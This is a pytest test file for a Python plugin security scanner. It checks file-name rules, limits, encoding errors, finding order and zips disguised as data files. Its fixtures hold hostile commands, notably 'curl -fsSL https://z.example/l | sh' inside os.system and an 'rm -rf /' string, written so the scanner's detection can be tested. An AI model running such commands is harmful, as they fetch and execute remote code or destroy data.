"""scan_tree over real directories: walking, file-name rules, limits, order."""

from __future__ import annotations

import base64
import io
import os
import zipfile
from pathlib import Path

import pytest

from caplet._capabilities._model import EnvReadCapability
from caplet._errors import ScanError
from caplet._findings import Finding, Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source, scan_tree


def write(root: Path, relative: str, content: str | bytes) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def by_rule(findings: tuple[Finding, ...], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def test_scans_python_files_with_relative_posix_paths(tmp_path: Path) -> None:
    write(tmp_path, "plugin.py", "import os\nos.system('ls')\n")
    write(tmp_path, "pkg/deep/mod.py", "eval('1')\n")
    write(tmp_path, "README.md", "os.system('not python')\n")
    report = scan_tree(tmp_path)
    assert report.files_scanned == 2
    assert report.bytes_scanned == len("import os\nos.system('ls')\n") + len("eval('1')\n")
    assert report.root == tmp_path.as_posix()
    assert [(f.rule_id, f.file, f.line) for f in report.findings] == [
        ("CPL-DYN-001", "pkg/deep/mod.py", 1),
        ("CPL-PROC-001", "plugin.py", 2),
    ]
    assert report.has_danger
    assert len(report.uncovered_dangers()) == 2


def test_capabilities_are_applied(tmp_path: Path) -> None:
    write(tmp_path, "plugin.py", "import os\nA = os.environ['TOKEN']\n")
    (finding,) = scan_tree(
        tmp_path, [EnvReadCapability(name="TOKEN", declared="env.read:TOKEN")]
    ).findings
    assert (finding.severity, finding.covered, finding.capability) == (
        Severity.INFO,
        True,
        "env.read:TOKEN",
    )


@pytest.mark.parametrize(
    ("relative", "rule_id", "text"),
    [
        ("setup.py", "CPL-HOOK-001", "runs arbitrary code when the tree is installed"),
        ("vendor/lib/setup.py", "CPL-HOOK-001", "remove setup.py"),
        ("evil.pth", "CPL-HOOK-002", ".pth file"),
        ("sitecustomize.py", "CPL-HOOK-003", "runs automatically at interpreter start"),
        ("usercustomize.py", "CPL-HOOK-003", "runs automatically at interpreter start"),
        ("_speedups.cpython-311-x86_64-linux-gnu.so", "CPL-NAT-002", "native library"),
        ("lib/helper.pyd", "CPL-NAT-002", "native library"),
        ("helper.dll", "CPL-NAT-002", "native library"),
        ("helper.dylib", "CPL-NAT-002", "native library"),
        ("helper.pyc", "CPL-NAT-003", "compiled bytecode"),
    ],
)
def test_file_name_rules_are_danger(tmp_path: Path, relative: str, rule_id: str, text: str) -> None:
    write(tmp_path, relative, b"\x7fELF" if not relative.endswith(".py") else "x = 1\n")
    (finding,) = by_rule(scan_tree(tmp_path).findings, rule_id)
    assert (finding.severity, finding.covered, finding.file) == (Severity.DANGER, False, relative)
    assert relative in finding.message
    assert text in finding.message


@pytest.mark.parametrize("name", ["setup.cfg", "pyproject.toml", "notes.so.txt", "paths.txt"])
def test_file_name_negatives(tmp_path: Path, name: str) -> None:
    write(tmp_path, name, "x")
    assert scan_tree(tmp_path).findings == ()


def test_sibling_modules_are_not_third_party(tmp_path: Path) -> None:
    write(tmp_path, "plugin.py", "import helpers\nimport pkg.sub\nimport yaml\n")
    write(tmp_path, "helpers.py", "X = 1\n")
    write(tmp_path, "pkg/sub.py", "Y = 2\n")
    findings = by_rule(scan_tree(tmp_path).findings, "CPL-SUP-001")
    assert [(f.file, f.line) for f in findings] == [("plugin.py", 3)]
    assert "third-party import yaml (supply chain" in findings[0].message


def test_pycache_and_vcs_folders_are_skipped_hidden_folders_are_not(tmp_path: Path) -> None:
    write(tmp_path, "__pycache__/evil.py", "eval('1')\n")
    write(tmp_path, ".git/hooks/evil.py", "eval('1')\n")
    write(tmp_path, ".hidden/evil.py", "eval('1')\n")
    report = scan_tree(tmp_path)
    assert [f.file for f in report.findings] == [".hidden/evil.py"]
    assert report.files_scanned == 1


def test_symlinks_are_reported_not_followed(tmp_path: Path) -> None:
    outside = write(tmp_path, "outside/evil.py", "import os\nos.system('x')\n")
    root = tmp_path / "plugin"
    write(root, "plugin.py", "X = 1\n")
    (root / "linked.py").symlink_to(outside)
    (root / "linked_dir").symlink_to(outside.parent, target_is_directory=True)
    report = scan_tree(root)
    assert [(f.rule_id, f.file, f.severity) for f in report.findings] == [
        ("CPL-SCAN-005", "linked.py", Severity.WARNING),
        ("CPL-SCAN-005", "linked_dir", Severity.WARNING),
    ]
    assert "symlinks are not followed" in report.findings[0].message
    assert report.files_scanned == 1


def test_fifo_is_reported_and_never_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "plugin.py")
    (finding,) = scan_tree(tmp_path).findings
    assert (finding.rule_id, finding.file) == ("CPL-SCAN-005", "plugin.py")


def test_a_single_file_can_be_scanned(tmp_path: Path) -> None:
    path = write(tmp_path, "tool.py", "import os\nos.system('ls')\n")
    report = scan_tree(path)
    assert [(f.rule_id, f.file) for f in report.findings] == [("CPL-PROC-001", "tool.py")]


def test_missing_root_is_a_scan_error_naming_it(tmp_path: Path) -> None:
    missing = tmp_path / "nope"
    with pytest.raises(ScanError) as info:
        scan_tree(missing)
    assert str(missing) in str(info.value)
    assert "pass a plugin directory, a Python file, an sdist or a wheel" in str(info.value)


def test_a_root_given_as_a_string_is_scanned_and_anything_else_is_a_scan_error(
    tmp_path: Path,
) -> None:
    # a str raised AttributeError (a traceback) out of the public API before
    path = write(tmp_path, "tool.py", "import os\nos.system('ls')\n")
    assert [f.rule_id for f in scan_tree(str(path)).findings] == ["CPL-PROC-001"]
    with pytest.raises(ScanError) as info:
        scan_tree(42)  # type: ignore[arg-type]
    assert str(info.value) == (
        "cannot scan 42: expected a path (str or pathlib.Path) to a directory or file"
    )


def test_non_positive_limit_is_a_scan_error(tmp_path: Path) -> None:
    with pytest.raises(ScanError, match="max_depth must be a positive integer, got 0"):
        scan_tree(tmp_path, max_depth=0)


# -- limits ------------------------------------------------------------------------------


def test_file_over_the_size_limit_is_a_finding_not_a_read(tmp_path: Path) -> None:
    write(tmp_path, "big.py", "x = 1\n" * 100)
    write(tmp_path, "small.py", "eval('1')\n")
    report = scan_tree(tmp_path, max_file_bytes=100)
    (finding,) = by_rule(report.findings, "CPL-SCAN-001")
    # A plugin's unscanned code is danger: the gate fails closed.
    assert (finding.file, finding.severity) == ("big.py", Severity.DANGER)
    assert "not scanned: too large (600 bytes, limit 100)" in finding.message
    assert "a plugin's code that was not scanned is refused" in finding.message
    assert (report.files_scanned, report.bytes_scanned) == (1, len("eval('1')\n"))
    # In package mode it is reported, not a verdict (big.py is read up to a hard limit).
    package = scan_tree(tmp_path, max_file_bytes=10, mode=ScanMode.PACKAGE)
    assert all(f.severity is not Severity.DANGER for f in by_rule(package.findings, "CPL-SCAN-001"))


@pytest.mark.parametrize(
    ("expression", "rule_id", "reason"),
    [
        ("(" * 10_000 + "1" + ")" * 10_000, "CPL-SCAN-003", "too many nested parentheses"),
        ("-" * 10_000 + "1", "CPL-SCAN-002", "while parsing"),
        ("1" + "+1" * 10_000, "CPL-SCAN-002", "while parsing"),
        ("-" * 300 + "1", "CPL-SCAN-002", "nesting deeper than 200 levels"),
    ],
)
def test_deep_nesting_is_a_finding_not_a_crash(
    tmp_path: Path, expression: str, rule_id: str, reason: str
) -> None:
    write(tmp_path, "deep.py", f"import os\nx = {expression}\nos.system('ls')\n")
    write(tmp_path, "ok.py", "eval('1')\n")
    findings = scan_tree(tmp_path).findings
    (finding,) = by_rule(findings, rule_id)
    # Unscanned plugin code is danger (the gate fails closed); a file that does
    # not parse cannot be imported either, so it stays a warning.
    severity = Severity.DANGER if rule_id == "CPL-SCAN-002" else Severity.WARNING
    assert (finding.file, finding.severity) == ("deep.py", severity)
    assert reason in finding.message
    if rule_id == "CPL-SCAN-003":
        # the line that does not parse is mended (_scan/_mend) and said so; the rest of
        # the file is still read as code
        assert "lines 2 not read" in finding.message
        assert [f.line for f in by_rule(findings, "CPL-PROC-001")] == [3]
    else:
        # the file's code rules did not run
        assert by_rule(findings, "CPL-PROC-001") == []
    assert [f.file for f in by_rule(findings, "CPL-DYN-001")] == ["ok.py"]


def test_custom_depth_and_node_limits() -> None:
    source = "x = [[[[1]]]]\n"
    assert scan_source(source, "f.py") == []
    (deep,) = scan_source(source, "f.py", max_depth=4)
    assert (deep.rule_id, deep.line) == ("CPL-SCAN-002", 1)
    assert "nesting deeper than 4 levels" in deep.message
    (big,) = scan_source("a = 1\nb = 2\nc = 3\n", "f.py", max_nodes=5)
    assert "more than 5 syntax nodes" in big.message


def test_nul_byte_is_a_finding_with_its_line(tmp_path: Path) -> None:
    write(tmp_path, "plugin.py", b"import os\nx = 1\n\x00\nos.system('ls')\n")
    (finding,) = scan_tree(tmp_path).findings
    assert (finding.rule_id, finding.line, finding.severity) == (
        "CPL-SCAN-003",
        3,
        Severity.WARNING,
    )
    assert "does not parse as Python" in finding.message
    assert "fix the syntax or encoding error" in finding.message


def test_non_utf8_file_is_a_finding_with_its_line(tmp_path: Path) -> None:
    write(tmp_path, "plugin.py", b"x = 1\ny = '\xff\xfe'\n")
    (finding,) = scan_tree(tmp_path).findings
    assert (finding.rule_id, finding.line) == ("CPL-SCAN-003", 2)
    assert "UnicodeDecodeError: byte 0xff is not valid utf-8" in finding.message


def test_pep263_cookie_is_honoured(tmp_path: Path) -> None:
    source = "# -*- coding: latin-1 -*-\nimport os\nx = 'caf\xe9'; os.system('ls')\n"
    write(tmp_path, "plugin.py", source.encode("latin-1"))
    (finding,) = scan_tree(tmp_path).findings
    assert (finding.rule_id, finding.line) == ("CPL-PROC-001", 3)
    assert finding.column == len("x = 'café'; ") + 1


def test_syntax_error_keeps_text_rules(tmp_path: Path) -> None:
    blob = base64.b64encode(bytes(range(200))).decode()
    write(tmp_path, "plugin.py", f"def broken(:\n    pass\ndata = '{blob}'\n{'#' * 1200}\n")
    findings = scan_tree(tmp_path).findings
    assert [(f.rule_id, f.line) for f in findings] == [
        ("CPL-SCAN-003", 1),
        ("CPL-OBF-001", 3),
        ("CPL-OBF-003", 4),
    ]
    assert "SyntaxError" in findings[0].message


def test_comments_and_strings_never_trigger_code_rules(tmp_path: Path) -> None:
    write(
        tmp_path,
        "plugin.py",
        '"""Uses subprocess.run(["ls"]) and eval() -- in prose only."""\n'
        "# import socket; os.system('rm -rf /')\n"
        "HELP = \"call __import__('os').system('x') or ().__class__.__subclasses__()\"\n",
    )
    assert scan_tree(tmp_path).findings == ()


# -- order and determinism ------------------------------------------------------------


def _messy_tree(root: Path) -> None:
    write(root, "b.py", "import yaml\nimport os\nos.system('x')\nopen(p)\n")
    write(root, "a.py", "open(p, 'w')\neval('1')\nimport subprocess\n")
    write(root, "setup.py", "X = 1\n")
    write(root, "z/c.py", "import os\nos.environ['A']\n")


def test_findings_are_in_sort_key_order(tmp_path: Path) -> None:
    _messy_tree(tmp_path)
    findings = scan_tree(tmp_path).findings
    assert list(findings) == sorted(findings, key=Finding.sort_key)
    assert [(f.severity.value, f.file, f.line, f.rule_id) for f in findings] == [
        ("danger", "a.py", 2, "CPL-DYN-001"),
        ("danger", "b.py", 3, "CPL-PROC-001"),
        ("danger", "setup.py", 0, "CPL-HOOK-001"),
        ("danger", "z/c.py", 2, "CPL-ENV-001"),
        ("warning", "a.py", 1, "CPL-FS-001"),
        ("warning", "a.py", 3, "CPL-PROC-002"),
        ("warning", "b.py", 1, "CPL-SUP-001"),
        ("warning", "b.py", 4, "CPL-FS-002"),
    ]


def test_scanning_twice_gives_identical_reports(tmp_path: Path) -> None:
    _messy_tree(tmp_path)
    assert scan_tree(tmp_path) == scan_tree(tmp_path)


def test_lone_surrogate_in_memory_source_is_a_finding_with_its_line() -> None:
    (finding,) = scan_source("x = 1\ny = '\ud800'\n", "f.py")
    assert (finding.rule_id, finding.line) == ("CPL-SCAN-003", 2)
    assert "UnicodeEncodeError: surrogates not allowed" in finding.message


# -- blind17: a zip shipped under a data file's name (b17-np-zipimport-dat) -------------------

_PAYLOAD = "import os\nos.system('curl -fsSL https://z.example/l | sh')\n"


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in members.items():
            z.writestr(name, text)
    return buffer.getvalue()


@pytest.mark.parametrize("name", ["pkg/data/locales.dat", "pkg/_res/blob", "pkg/cache.bin"])
def test_a_zip_named_as_data_is_read_as_the_nested_zip_it_is(tmp_path: Path, name: str) -> None:
    # zipimport.zipimporter(path) imports from any file that is a zip, whatever its name
    write(tmp_path, "pkg/__init__.py", "import zipimport\n")
    write(tmp_path, name, _zip({"sync.py": _PAYLOAD}))
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER} == {
        ("CPL-THR-015", f"{name}/sync.py")
    }


def test_documents_and_data_that_are_no_importable_zip_are_not_read(tmp_path: Path) -> None:
    # an office document is a zip no importer reads; a .dat that is no zip is data
    write(tmp_path, "pkg/__init__.py", "VERSION = 1\n")
    write(tmp_path, "pkg/templates/report.docx", _zip({"word/x.py": _PAYLOAD}))
    write(tmp_path, "pkg/data/table.dat", b"\x00\x01PK\x03\x04" + _PAYLOAD.encode())
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert not [f for f in report.findings if f.severity is Severity.DANGER]
